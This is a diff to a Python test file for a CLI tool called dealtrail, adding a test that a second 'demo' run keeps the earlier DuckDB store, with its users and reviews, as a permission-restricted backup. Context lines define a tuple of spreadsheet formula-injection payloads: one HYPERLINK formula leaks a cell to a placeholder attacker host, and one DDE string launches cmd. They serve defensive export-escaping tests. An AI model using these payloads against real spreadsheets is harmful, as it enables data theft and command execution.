@@ -20,9 +20,10 @@ from dealtrail.console import auth
 from dealtrail.console.app import ConsoleConfig, create_app
 from dealtrail.simulator.run import write_simulation
 from projections.report import write_report
-from projections.reviews import ReviewDue
+from projections.reviews import ReviewDue, append_review
 from projections.spreadsheet import FORMULA_STARTS
 from projections.store import Store
+from schemas.reviews import FindingAcknowledged
 
 DUE = ReviewDue(voiding=24, integrity=24, procedural=72)
 HOSTILE = ('=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3")
@@ -166,3 +167,45 @@ def test_schedule_refuses_a_cron_that_never_fires_or_has_seconds_in_one_line(
     assert r.exit_code == 2, r.output
     assert reason in r.output and "Traceback" not in r.output
     assert len(r.output.strip().splitlines()) == 1
+
+
+# -- an ordinary command destroys nothing -------------------------------------------------------
+
+
+def test_demo_twice_keeps_the_first_store_with_its_users_and_reviews(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    import stat
+
+    import dealtrail.simulator.run as sim
+
+    full = sim.write_simulation
+
+    def small(out: Path, tables: int, hours: float, *args: object, **kw: object) -> tuple[int, int]:
+        return full(out, 2, 0.25, *args, **kw)  # type: ignore[arg-type]
+
+    monkeypatch.setattr(sim, "write_simulation", small)
+    out = tmp_path / "out"
+    r = CliRunner().invoke(cli, ["demo", "--out", str(out)])
+    assert r.exit_code == 0, r.output
+    db = out / "dealtrail.duckdb"
+    with Store(db) as store:
+        auth.add_user(store.con, "ada", "admin", "ada-admin-pass", datetime(2026, 11, 1, tzinfo=UTC))
+        event = FindingAcknowledged(
+            review_id="R1", finding_id="ab" * 16, user="ada", reviewed_at=datetime(2026, 11, 2, tzinfo=UTC)
+        )
+        assert append_review(store.con, event)
+    r = CliRunner().invoke(cli, ["demo", "--out", str(out)])
+    assert r.exit_code == 0, r.output
+    kept = sorted(out.glob("dealtrail.*.duckdb*"))
+    assert len(kept) >= 1 and kept[0].name.startswith("dealtrail.2")
+    assert "kept the previous store" in r.output and kept[0].name in " ".join(r.output.split())
+    for p in kept:
+        assert stat.S_IMODE(p.stat().st_mode) == 0o600
+    moved = next(p for p in kept if p.suffix == ".duckdb")
+    with duckdb.connect(str(moved), read_only=True) as con:
+        assert con.execute("SELECT count(*) FROM reviews WHERE review_id = 'R1'").fetchall() == [(1,)]
+        assert con.execute("SELECT name FROM dim_users").fetchall() == [("ada",)]
+    with duckdb.connect(str(db), read_only=True) as con:  # the new store starts afresh
+        assert con.execute("SELECT count(*) FROM reviews").fetchall() == [(0,)]
+        assert con.execute("SELECT count(*) FROM events").fetchall()[0][0] > 0
